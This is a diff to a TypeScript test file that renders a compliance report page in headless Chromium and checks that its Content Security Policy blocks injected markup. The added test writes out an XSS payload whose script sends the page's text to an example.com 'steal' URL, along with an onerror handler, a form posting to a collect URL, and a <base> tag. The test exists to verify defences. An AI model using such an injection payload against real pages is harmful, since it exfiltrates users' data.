@@ -1,6 +1,6 @@
 /**
- * The HTML page in a real headless Chromium (Debian's, driven by playwright-core). Deliberately no skip:
- * a machine without Chromium fails here with the install line, so CI cannot pass without running it.
+ * The HTML page in a real headless Chromium (the one inside @sparticuz/chromium, or ROOTGUARD_CHROMIUM,
+ * driven by playwright-core; tests/cli/compliance-chromium.ts). Deliberately no skip: CI cannot pass without running it.
  */
 import * as assert from "node:assert/strict";
 import { promises as fs } from "node:fs";
@@ -12,6 +12,7 @@ import { PAGE_ROWS, renderHtml } from "../../src/cli/compliance/html";
 import type { ComplianceReport } from "../../src/cli/compliance/report-model";
 import { launchChromium } from "./compliance-chromium";
 import { countByStatus, sampleReport } from "./compliance-helpers";
+import { sourceLine } from "../../src/cli/compliance/table";
 
 describe("compliance: HTML page in headless Chromium", function () {
     this.timeout(60_000);
@@ -187,6 +188,51 @@ describe("compliance: HTML page in headless Chromium", function () {
             [["https://example.com/pixel.png", "csp"]],
         );
         assert.deepEqual(leaked, []);
+    });
+
+    it("refuses anything injected into the page: inline script, event handler, form submission, <base>", async () => {
+        // Stands in for a future escaping bug: markup spliced into the finished page as if a value had slipped
+        // through unescaped. Only the page's own script (allowed by its hash) may run.
+        const injected = renderHtml(report)
+            .replace("</head>", '<base href="https://example.com/">\n</head>')
+            .replace(
+                "</main>",
+                `<script>document.title = "pwned"; fetch("https://example.com/steal?" + encodeURIComponent(document.body.innerText));</script>
+<img id="inj-img" src="https://example.com/pixel.png" onerror="document.title = 'handler ran'">
+<form id="inj-form" action="https://example.com/collect" method="post"><input name="d" value="data"><button id="inj-submit">send</button></form>
+</main>`,
+            );
+        const file = path.join(dir, "injected.html");
+        await fs.writeFile(file, injected);
+        const target = pathToFileURL(file).href;
+        await page.addInitScript(`window.__violations = [];
+            document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(e.effectiveDirective));`);
+        await page.goto(target);
+        assert.equal(
+            await shown(),
+            `${report.evaluations.length} of ${report.evaluations.length} rows (showing ${PAGE_ROWS})`,
+            "the page's own script ran",
+        );
+        await page.locator("#inj-submit").dispatchEvent("click");
+        await page.waitForTimeout(300);
+        // Read in the page: after a refused form submission Playwright's own title and URL getters wait on a
+        // navigation that never comes.
+        assert.equal(
+            await page.evaluate("document.title"),
+            `rootguard compliance — ${sourceLine(report)}`,
+            "no injected script or handler ran",
+        );
+        assert.equal(await page.evaluate("location.href"), target, "the form was not submitted");
+        assert.equal(await page.evaluate("document.baseURI"), target, "<base> was ignored");
+        const violations = new Set((await page.evaluate("window.__violations")) as string[]);
+        for (const directive of ["script-src-elem", "script-src-attr", "form-action", "base-uri"])
+            assert.ok(violations.has(directive), `${directive} refused (saw ${[...violations].join(", ")})`);
+        assert.deepEqual(
+            requests.filter((r) => !r.startsWith("file:")),
+            ["https://example.com/pixel.png"],
+            "only the image was announced, and the CSP refused it before the network",
+        );
+        assert.equal(failed.find(([u]) => u === "https://example.com/pixel.png")?.[1], "csp");
     });
 
     it("console links open AWS Config for the row's region and rule, in a new tab without referrer", async () => {
